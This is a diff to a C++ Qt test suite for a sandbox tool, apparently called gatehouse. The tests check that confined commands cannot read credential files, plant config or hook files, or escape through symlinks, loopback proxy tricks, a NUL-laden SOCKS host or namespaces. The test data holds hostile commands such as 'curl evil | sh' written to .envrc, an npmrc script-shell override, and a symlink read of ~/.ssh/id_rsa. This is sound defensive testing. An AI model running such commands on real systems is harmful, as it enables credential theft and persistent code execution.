@@ -4,6 +4,8 @@
 #include "testenv.h"
 
 #include <QDir>
+#include <QDirIterator>
+#include <QHash>
 #include <QElapsedTimer>
 #include <QLocalServer>
 #include <QLocalSocket>
@@ -11,14 +13,20 @@
 #include <QProcess>
 #include <QSignalSpy>
 #include <QTcpServer>
+#include <QTcpSocket>
 #include <QTemporaryDir>
 #include <QTest>
 
 #include <sys/socket.h>
 #include <sys/un.h>
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <signal.h>
 
 #include <cerrno>
 #include <cstdio>
+#include <cstddef>
+#include <cstdlib>
 #include <cstring>
 #include <unistd.h>
 
@@ -41,8 +49,10 @@ Run sandboxed(const QString &project, const QStringList &command, const QStringL
     process.setProcessEnvironment(env);
     process.start(QStringLiteral(GATEHOUSE_BINARY),
                   QStringList{QStringLiteral("run")} + options + QStringList{QStringLiteral("--")} + command);
-    if (!process.waitForFinished(60000))
+    // The event loop runs meanwhile: servers of this test answer the sandboxed command.
+    if (!QTest::qWaitFor([&process] { return process.state() == QProcess::NotRunning; }, 60000))
         process.kill();
+    process.waitForFinished();
     return {process.exitStatus() == QProcess::NormalExit ? process.exitCode() : -1,
             QString::fromUtf8(process.readAllStandardOutput()), QString::fromUtf8(process.readAllStandardError())};
 }
@@ -58,6 +68,48 @@ QByteArray contents(const QString &path)
     return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray("<missing>");
 }
 
+// A plain HTTP server on loopback that answers every request with @p body and remembers what it
+// was asked; it answers only while the event loop runs.
+class TinyHttpServer final : public QObject
+{
+public:
+    explicit TinyHttpServer(QByteArray body)
+        : m_body(std::move(body))
+    {
+        QObject::connect(&m_server, &QTcpServer::newConnection, this, [this] {
+            while (QTcpSocket *socket = m_server.nextPendingConnection()) {
+                ++connections;
+                QObject::connect(socket, &QTcpSocket::readyRead, socket, [this, socket] {
+                    QByteArray &buffer = m_buffers[socket];
+                    buffer += socket->readAll();
+                    if (!buffer.contains("\r\n\r\n"))
+                        return;
+                    requests << buffer;
+                    socket->write("HTTP/1.1 200 OK\r\nContent-Length: " + QByteArray::number(m_body.size())
+                                  + "\r\nConnection: close\r\n\r\n" + m_body);
+                    socket->disconnectFromHost();
+                });
+                QObject::connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
+            }
+        });
+    }
+    bool listen() { return m_server.listen(QHostAddress::LocalHost); }
+    quint16 port() const { return m_server.serverPort(); }
+
+    int connections = 0;
+    QList<QByteArray> requests;
+
+private:
+    QTcpServer m_server;
+    QByteArray m_body;
+    QHash<QTcpSocket *, QByteArray> m_buffers;
+};
+
+QStringList allow(const QString &host)
+{
+    return {QStringLiteral("--allow-domain"), host};
+}
+
 } // namespace
 
 class TestRun final : public QObject
@@ -67,6 +119,24 @@ class TestRun final : public QObject
 private:
     QTemporaryDir m_dir;
     QString m_project;
+
+    // This test program, copied into the project to run as a child inside the sandbox: the build
+    // folder may lie in the host's /tmp, which the sandbox replaces by its own.
+    QString childProgram()
+    {
+        const QString self = m_project + QStringLiteral("/tst_run-child");
+        if (!QFileInfo::exists(self))
+            QFile::copy(QCoreApplication::applicationFilePath(), self);
+        return self;
+    }
+
+    static QByteArray pgrep(const QString &pattern)
+    {
+        QProcess process;
+        process.start(QStringLiteral("pgrep"), {QStringLiteral("-f"), pattern});
+        process.waitForFinished();
+        return process.readAllStandardOutput().trimmed();
+    }
 
 private Q_SLOTS:
     void initTestCase()
@@ -80,6 +150,10 @@ private Q_SLOTS:
         test::writeFile(QDir::homePath() + QStringLiteral("/.ssh/id_rsa"), "PRIVATE KEY");
         test::writeFile(QDir::homePath() + QStringLiteral("/.aws/credentials"), "aws secret");
         test::writeFile(QDir::homePath() + QStringLiteral("/.netrc"), "machine x password y");
+        for (const char *path : {"/.gnupg/private-keys-v1.d/key", "/.local/share/keyrings/login.keyring", "/.git-credentials",
+                                 "/.docker/config.json", "/.kube/config", "/.config/gcloud/credentials.db"})
+            test::writeFile(QDir::homePath() + QLatin1StringView(path), "PRIVATE secret password");
+        test::writeFile(qEnvironmentVariable("XDG_CONFIG_HOME") + QStringLiteral("/gatehouse/trust.json"), "PRIVATE");
     }
 
     void ordinaryWorkWorks()
@@ -158,6 +232,13 @@ private Q_SLOTS:
         QTest::newRow("ssh key") << QDir::homePath() + QStringLiteral("/.ssh/id_rsa");
         QTest::newRow("aws") << QDir::homePath() + QStringLiteral("/.aws/credentials");
         QTest::newRow("netrc") << QDir::homePath() + QStringLiteral("/.netrc");
+        QTest::newRow("gnupg") << QDir::homePath() + QStringLiteral("/.gnupg/private-keys-v1.d/key");
+        QTest::newRow("keyrings") << QDir::homePath() + QStringLiteral("/.local/share/keyrings/login.keyring");
+        QTest::newRow("git credentials") << QDir::homePath() + QStringLiteral("/.git-credentials");
+        QTest::newRow("docker") << QDir::homePath() + QStringLiteral("/.docker/config.json");
+        QTest::newRow("kube") << QDir::homePath() + QStringLiteral("/.kube/config");
+        QTest::newRow("gcloud") << QDir::homePath() + QStringLiteral("/.config/gcloud/credentials.db");
+        QTest::newRow("gatehouse config") << qEnvironmentVariable("XDG_CONFIG_HOME") + QStringLiteral("/gatehouse/trust.json");
     }
 
     void credentialStoresAreUnreadable()
@@ -248,11 +329,7 @@ private Q_SLOTS:
         const QString path = m_project + QStringLiteral("/host.sock");
         QLocalServer::removeServer(path);
         QVERIFY(server.listen(path));
-        // The child is this test program, copied into the project: the build folder may lie in
-        // the host's /tmp, which the sandbox replaces by its own.
-        const QString self = m_project + QStringLiteral("/tst_run-child");
-        QFile::remove(self);
-        QVERIFY(QFile::copy(QCoreApplication::applicationFilePath(), self));
+        const QString self = childProgram();
 
         // Outside the sandbox the same child connects: the check can fail.
         QProcess outside;
@@ -276,6 +353,236 @@ private Q_SLOTS:
         QVERIFY2(run.out.contains(QStringLiteral("Seccomp:\t2")), qPrintable(run.out));
     }
 
+    void missingProtectedEntriesCannotBeCreated_data()
+    {
+        QTest::addColumn<QString>("script");
+        QTest::addColumn<QString>("entry");
+        QTest::newRow("gatehouse settings") << "mkdir -p .gatehouse && echo '{}' > .gatehouse/settings.json" << ".gatehouse";
+        QTest::newRow("claude settings") << "mkdir -p .claude; echo x > .claude/settings.json" << ".claude";
+        QTest::newRow("mcp config") << "echo '{\"mcpServers\":{}}' > .mcp.json" << ".mcp.json";
+        QTest::newRow("editor tasks") << "mkdir .vscode; echo x > .vscode/tasks.json" << ".vscode";
+        QTest::newRow("idea") << "mkdir .idea; echo x > .idea/workspace.xml" << ".idea";
+        QTest::newRow("envrc") << "echo 'curl evil | sh' > .envrc" << ".envrc";
+        QTest::newRow("shell start-up file") << "echo evil >> .bashrc; echo evil > .zshrc; echo evil > .profile" << ".bashrc";
+        QTest::newRow("npmrc") << "echo 'script-shell=/tmp/evil' > .npmrc" << ".npmrc";
+        QTest::newRow("gitmodules") << "printf '[submodule \"x\"]\\n' > .gitmodules" << ".gitmodules";
+        QTest::newRow("a git folder with a hook") << "git init -q; mkdir -p .git/hooks; echo evil > .git/hooks/post-checkout" << ".git";
+        QTest::newRow("through a symlink") << "ln -s .mcp.json link; echo x > link" << ".mcp.json";
+        QTest::newRow("by renaming a file onto it") << "echo x > made; mv made .envrc" << ".envrc";
+    }
+
+    void missingProtectedEntriesCannotBeCreated()
+    {
+        QFETCH(QString, script);
+        QFETCH(QString, entry);
+        // A folder without git or any protected entry: all of them are missing.
+        QTemporaryDir dir;
+        const QString bare = QDir(dir.path()).canonicalPath();
+        const Run run = shell(bare, script + QStringLiteral("; echo done"));
+        QVERIFY2(run.out.contains(QStringLiteral("done")), qPrintable(run.err));
+        QVERIFY2(!QFileInfo::exists(bare + u'/' + entry), qPrintable(entry + u' ' + run.err));
+        // And the empty stand-ins are gone again: the folder holds what the command made, no more.
+        QDirIterator it(bare, QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot);
+        while (it.hasNext()) {
+            const QString name = QFileInfo(it.next()).fileName();
+            QVERIFY2(name == QStringLiteral("made") || name == QStringLiteral("link"), qPrintable(name));
+        }
+    }
+
+    void aLongerSandboxKeepsItsStandIns()
+    {
+        // While one sandbox still runs, another one ending must not take the stand-ins away
+        // (on the host, removing a mount point detaches it in the other sandbox).
+        QTemporaryDir dir;
+        const QString bare = QDir(dir.path()).canonicalPath();
+        QProcess longer;
+        longer.setWorkingDirectory(bare);
+        longer.start(QStringLiteral(GATEHOUSE_BINARY),
+                     {QStringLiteral("run"), QStringLiteral("--"), QStringLiteral("sh"), QStringLiteral("-c"),
+                      QStringLiteral("while [ ! -e go ]; do sleep 0.05; done; echo '{}' > .mcp.json; echo tried")});
+        QVERIFY(longer.waitForStarted());
+        QTRY_VERIFY_WITH_TIMEOUT(QFileInfo::exists(bare + QStringLiteral("/.mcp.json")), 10000); // its stand-in
+        QCOMPARE(shell(bare, QStringLiteral("true")).exitCode, 0);
+        QCOMPARE(shell(bare, QStringLiteral("touch go")).exitCode, 0);
+        QVERIFY(QTest::qWaitFor([&longer] { return longer.state() == QProcess::NotRunning; }, 30000));
+        QVERIFY(longer.readAllStandardOutput().contains("tried"));
+        QVERIFY(!QFileInfo::exists(bare + QStringLiteral("/.mcp.json")));
+    }
+
+    void gitInsideDoesNotSeeTheStandIns()
+    {
+        const Run run = shell(m_project, QStringLiteral("git status --porcelain --ignored=no"));
+        QCOMPARE(run.exitCode, 0);
+        QVERIFY2(!run.out.contains(QStringLiteral(".envrc")) && !run.out.contains(QStringLiteral(".gatehouse")),
+                 qPrintable(run.out));
+    }
+
+    void symlinkAndHardLinkTricksFail()
+    {
+        const QByteArray config = contents(m_project + QStringLiteral("/.git/config"));
+        const QString outside = QDir::homePath() + QStringLiteral("/.bashrc");
+        QFile::remove(outside);
+        shell(m_project, QStringLiteral("ln -sf '%1' rc; echo evil >> rc; "
+                                        "ln -sf .git/config cfg; echo evil >> cfg; "
+                                        "ln .git/config hard; echo evil >> hard; "
+                                        "ln -sf ~/.ssh/id_rsa key; cat key")
+                             .arg(outside));
+        QVERIFY(!QFileInfo::exists(outside));
+        QCOMPARE(contents(m_project + QStringLiteral("/.git/config")), config);
+        const Run read = shell(m_project, QStringLiteral("cat key"));
+        QVERIFY(!read.out.contains(QStringLiteral("PRIVATE")));
+    }
+
+    void worktreeGitFileStaysReadOnly()
+    {
+        // A checkout whose .git is a file naming the git folder (a worktree or submodule).
+        QTemporaryDir dir;
+        const QString root = QDir(dir.path()).canonicalPath();
+        test::git(root, {QStringLiteral("init"), QStringLiteral("-q"), QStringLiteral("main")});
+        test::writeFile(root + QStringLiteral("/main/f"), "x");
+        test::git(root + QStringLiteral("/main"), {QStringLiteral("add"), QStringLiteral("f")});
+        test::git(root + QStringLiteral("/main"), {QStringLiteral("commit"), QStringLiteral("-qm"), QStringLiteral("x")});
+        test::git(root + QStringLiteral("/main"), {QStringLiteral("worktree"), QStringLiteral("add"), QStringLiteral("-q"),
+                                                   root + QStringLiteral("/wt")});
+        const QByteArray gitFile = contents(root + QStringLiteral("/wt/.git"));
+        const QByteArray config = contents(root + QStringLiteral("/main/.git/config"));
+        // The whole folder is writable, so the main git folder lies inside the sandbox's view.
+        const Run run = shell(root + QStringLiteral("/wt"),
+                              QStringLiteral("echo 'gitdir: /tmp/evil' > .git; echo evil >> ../main/.git/config; "
+                                             "echo evil > ../main/.git/hooks/pre-commit; echo done"),
+                              {QStringLiteral("--allow-write"), root});
+        QVERIFY(run.out.contains(QStringLiteral("done")));
+        QCOMPARE(contents(root + QStringLiteral("/wt/.git")), gitFile);
+        QCOMPARE(contents(root + QStringLiteral("/main/.git/config")), config);
+        QVERIFY(!QFileInfo::exists(root + QStringLiteral("/main/.git/hooks/pre-commit")));
+    }
+
+    void anAllowedHostIsReachedThroughTheProxy_data()
+    {
+        QTest::addColumn<QString>("client");
+        QTest::newRow("plain http from the proxy variables") << "curl -sS http://localhost:%1/page";
+        QTest::newRow("a CONNECT tunnel") << "curl -sS --proxytunnel http://localhost:%1/page";
+        QTest::newRow("socks5 with the name") << "curl -sS -x \"$ALL_PROXY\" http://localhost:%1/page";
+    }
+
+    void anAllowedHostIsReachedThroughTheProxy()
+    {
+        QFETCH(QString, client);
+        TinyHttpServer server("served-through-the-proxy");
+        QVERIFY(server.listen());
+        const Run run = shell(m_project, client.arg(server.port()), allow(QStringLiteral("localhost")));
+        QCOMPARE(run.exitCode, 0);
+        QCOMPARE(run.out, QStringLiteral("served-through-the-proxy"));
+        QCOMPARE(server.connections, 1);
+        QVERIFY(server.requests.first().contains("GET /page HTTP/1.1"));
+    }
+
+    void theProxyVariablesAreSet()
+    {
+        const Run run = shell(m_project, QStringLiteral("env | grep -i _proxy= | sort"), allow(QStringLiteral("example.com")));
+        QVERIFY2(run.out.contains(QStringLiteral("HTTPS_PROXY=http://127.0.0.1:")), qPrintable(run.out));
+        QVERIFY(run.out.contains(QStringLiteral("http_proxy=http://127.0.0.1:")));
+        QVERIFY(run.out.contains(QStringLiteral("ALL_PROXY=socks5h://127.0.0.1:")));
+        QVERIFY(run.out.contains(QStringLiteral("NO_PROXY=\n")));
+    }
+
+    void theProxyRefusesHostLoopback_data()
+    {
+        QTest::addColumn<QString>("client");
+        QTest::newRow("plain http by IP") << "curl -sS http://127.0.0.1:%1/";
+        QTest::newRow("plain http by name") << "curl -sS http://localhost:%1/";
+        QTest::newRow("CONNECT by IP") << "curl -sS --proxytunnel http://127.0.0.1:%1/";
+        QTest::newRow("CONNECT by name") << "curl -sS --proxytunnel http://localhost:%1/";
+        QTest::newRow("socks by IP") << "curl -sS -x \"$ALL_PROXY\" http://127.0.0.1:%1/";
+        QTest::newRow("IPv6 loopback") << "curl -sS -g 'http://[::1]:%1/'";
+        QTest::newRow("unspecified address") << "curl -sS http://0.0.0.0:%1/";
+        QTest::newRow("IPv4-mapped IPv6") << "curl -sS -g 'http://[::ffff:127.0.0.1]:%1/'";
+        QTest::newRow("decimal IP") << "curl -sS http://2130706433:%1/";
+    }
+
+    void theProxyRefusesHostLoopback()
+    {
+        QFETCH(QString, client);
+        TinyHttpServer server("host-secret");
+        QVERIFY(server.listen());
+        // The proxy runs (example.com is allowed), but nobody allowed loopback by name.
+        const Run run = shell(m_project, client.arg(server.port()), allow(QStringLiteral("example.com")));
+        QVERIFY2(!run.out.contains(QStringLiteral("host-secret")), qPrintable(run.out));
+        QCOMPARE(server.connections, 0);
+        QVERIFY2(run.err.contains(QStringLiteral("network: refused")), qPrintable(run.err));
+    }
+
+    void socksWithANulInTheHostIsRefused()
+    {
+        TinyHttpServer server("host-secret");
+        QVERIFY(server.listen());
+        const QString self = childProgram();
+        // "localhost\0.example.com": a C string says localhost, a suffix check says example.com.
+        const Run run = sandboxed(m_project, {self, QStringLiteral("--child-socks-nul"), QString::number(server.port())},
+                                  allow(QStringLiteral("*.example.com")) + allow(QStringLiteral("localhost.example.com")));
+        QVERIFY2(run.out.contains(QStringLiteral("reply 2")), qPrintable(run.out + run.err));
+        QCOMPARE(server.connections, 0);
+    }
+
+    void withoutAllowedHostsThereIsNoProxy()
+    {
+        const Run run = shell(m_project, QStringLiteral("env | grep -ci _proxy=; echo > /dev/tcp/127.0.0.1/3128 && echo open"));
+        QVERIFY2(run.out.startsWith(QStringLiteral("0\n")), qPrintable(run.out));
+        QVERIFY(!run.out.contains(QStringLiteral("open")));
+    }
+
+    void unfilteredProcessesCannotBeTamperedWith()
+    {
+        // The bridge to the proxy runs inside the sandbox without the seccomp filter (it needs
+        // AF_UNIX). No process without the filter may have its memory written or its environment
+        // read by the command: it could be made to open sockets for it.
+        const Run run = shell(m_project, QStringLiteral(
+            "for p in /proc/[0-9]*; do grep -q '^Seccomp:.*0$' $p/status 2>/dev/null || continue; echo \"unfiltered $p\"; "
+            "(exec 3<>$p/mem) 2>/dev/null && echo \"mem-writable $p\"; cat $p/environ >/dev/null 2>&1 && echo \"environ-readable $p\"; "
+            "done"), allow(QStringLiteral("example.com")));
+        QVERIFY2(run.out.contains(QStringLiteral("unfiltered")), qPrintable(run.out + run.err)); // the bridge
+        QVERIFY2(!run.out.contains(QStringLiteral("writable")) && !run.out.contains(QStringLiteral("readable")), qPrintable(run.out));
+        // The same check sees a process of the command's own: it can fail.
+        const Run own = shell(m_project, QStringLiteral("sleep 5 & (exec 3<>/proc/$!/mem) && echo mem-writable; kill $!"));
+        QVERIFY2(own.out.contains(QStringLiteral("mem-writable")), qPrintable(own.out + own.err));
+    }
+
+    void abstractUnixSocketsAreUnreachable()
+    {
+        QLocalServer server;
+        server.setSocketOptions(QLocalServer::AbstractNamespaceOption);
+        QVERIFY(server.listen(QStringLiteral("gatehouse-test-abstract")));
+        const QString self = childProgram();
+        const Run run = sandboxed(m_project, {self, QStringLiteral("--child-unix-connect"), QStringLiteral("@gatehouse-test-abstract")});
+        QVERIFY2(run.exitCode != 0, qPrintable(run.out));
+        QTest::qWait(200);
+        QVERIFY(!server.hasPendingConnections());
+        // Outside, the same child reaches it: the check can fail.
+        QProcess outside;
+        outside.start(self, {QStringLiteral("--child-unix-connect"), QStringLiteral("@gatehouse-test-abstract")});
+        QVERIFY(outside.waitForFinished(30000));
+        QCOMPARE(outside.exitCode(), 0);
+    }
+
+    void newNamespacesAreRefused()
+    {
+        const Run run = shell(m_project, QStringLiteral("unshare -r true && echo unshared; unshare -n true && echo netns"));
+        QVERIFY2(!run.out.contains(QStringLiteral("unshared")) && !run.out.contains(QStringLiteral("netns")), qPrintable(run.out));
+    }
+
+    void theSandboxDiesWithGatehouse()
+    {
+        QProcess process;
+        process.setWorkingDirectory(m_project);
+        process.start(QStringLiteral(GATEHOUSE_BINARY), {QStringLiteral("run"), QStringLiteral("--"), QStringLiteral("sh"),
+                                                          QStringLiteral("-c"), QStringLiteral("sleep 31339 & sleep 31340")});
+        QVERIFY(process.waitForStarted());
+        QTRY_VERIFY_WITH_TIMEOUT(!pgrep(QStringLiteral("sleep 3134[0]")).isEmpty(), 10000);
+        ::kill(static_cast<pid_t>(process.processId()), SIGKILL);
+        QVERIFY(process.waitForFinished());
+        QTRY_VERIFY_WITH_TIMEOUT(pgrep(QStringLiteral("sleep 313(39|40)")).isEmpty(), 10000);
+    }
+
     void noSandboxNoRun()
     {
         QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
@@ -297,8 +604,14 @@ int childUnixConnect(const char *path)
     }
     sockaddr_un address{};
     address.sun_family = AF_UNIX;
-    std::strncpy(address.sun_path, path, sizeof address.sun_path - 1);
-    if (::connect(fd, reinterpret_cast<sockaddr *>(&address), sizeof address) != 0) {
+    socklen_t size = sizeof address;
+    if (path[0] == '@') { // an abstract socket: a NUL first, and the length counts
+        std::strncpy(address.sun_path + 1, path + 1, sizeof address.sun_path - 2);
+        size = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + std::strlen(path + 1));
+    } else {
+        std::strncpy(address.sun_path, path, sizeof address.sun_path - 1);
+    }
+    if (::connect(fd, reinterpret_cast<sockaddr *>(&address), size) != 0) {
         std::printf("connect: %s\n", std::strerror(errno));
         return 2;
     }
@@ -307,10 +620,48 @@ int childUnixConnect(const char *path)
     return 0;
 }
 
+// Run as the child inside the sandbox: a SOCKS5 request for "localhost\0.example.com" to the
+// proxy's bridge; prints the reply code.
+int childSocksNul(const char *port)
+{
+    const char *proxy = std::getenv("ALL_PROXY"); // socks5h://127.0.0.1:PORT
+    const char *colon = proxy ? std::strrchr(proxy, ':') : nullptr;
+    if (!colon)
+        return 3;
+    const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
+    sockaddr_in address{};
+    address.sin_family = AF_INET;
+    address.sin_port = htons(static_cast<uint16_t>(std::atoi(colon + 1)));
+    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    if (::connect(fd, reinterpret_cast<sockaddr *>(&address), sizeof address) != 0)
+        return 4;
+    const char greeting[] = {5, 1, 0};
+    char answer[2];
+    if (::write(fd, greeting, 3) != 3 || ::read(fd, answer, 2) != 2)
+        return 5;
+    const char host[] = "localhost\0.example.com";
+    const int length = sizeof host - 1;
+    const int target = std::atoi(port);
+    char request[4 + 1 + length + 2];
+    request[0] = 5; request[1] = 1; request[2] = 0; request[3] = 3; request[4] = static_cast<char>(length);
+    std::memcpy(request + 5, host, length);
+    request[5 + length] = static_cast<char>(target >> 8);
+    request[6 + length] = static_cast<char>(target & 0xff);
+    if (::write(fd, request, sizeof request) != static_cast<ssize_t>(sizeof request))
+        return 6;
+    char reply[10];
+    if (::read(fd, reply, sizeof reply) < 2)
+        return 7;
+    std::printf("reply %d\n", reply[1]);
+    return 0;
+}
+
 int main(int argc, char **argv)
 {
     if (argc == 3 && std::strcmp(argv[1], "--child-unix-connect") == 0)
         return childUnixConnect(argv[2]);
+    if (argc == 3 && std::strcmp(argv[1], "--child-socks-nul") == 0)
+        return childSocksNul(argv[2]);
     QCoreApplication app(argc, argv);
     TestRun test;
     return QTest::qExec(&test, argc, argv);
